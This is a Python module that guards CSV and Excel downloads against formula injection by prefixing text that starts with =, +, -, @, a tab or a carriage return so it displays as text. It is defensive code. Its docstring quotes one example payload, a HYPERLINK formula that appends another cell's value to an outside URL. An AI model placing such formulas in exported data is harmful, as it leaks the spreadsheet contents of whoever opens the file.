"""Text in spreadsheet cells stays text.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula
by Excel and LibreOffice when a CSV file is opened, and openpyxl stores a string starting
with `=` as a formula: a public note such as `=HYPERLINK("https://...?"&B2)` would run in
the reader's spreadsheet. Every CSV and Excel download writes its text through here.
"""

from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """Text that would start a formula, with the single quote OWASP recommends in front
    (spreadsheets show the text, not the quote); other values as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_row(row: Mapping[str, Any]) -> dict[str, Any]:
    return {key: csv_cell(value) for key, value in row.items()}


def text_cells(cells: Iterable[Any]) -> None:
    """openpyxl cells whose text would be a formula become plain strings, shown as text."""
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
            cell.data_type = "s"
            cell.quotePrefix = True
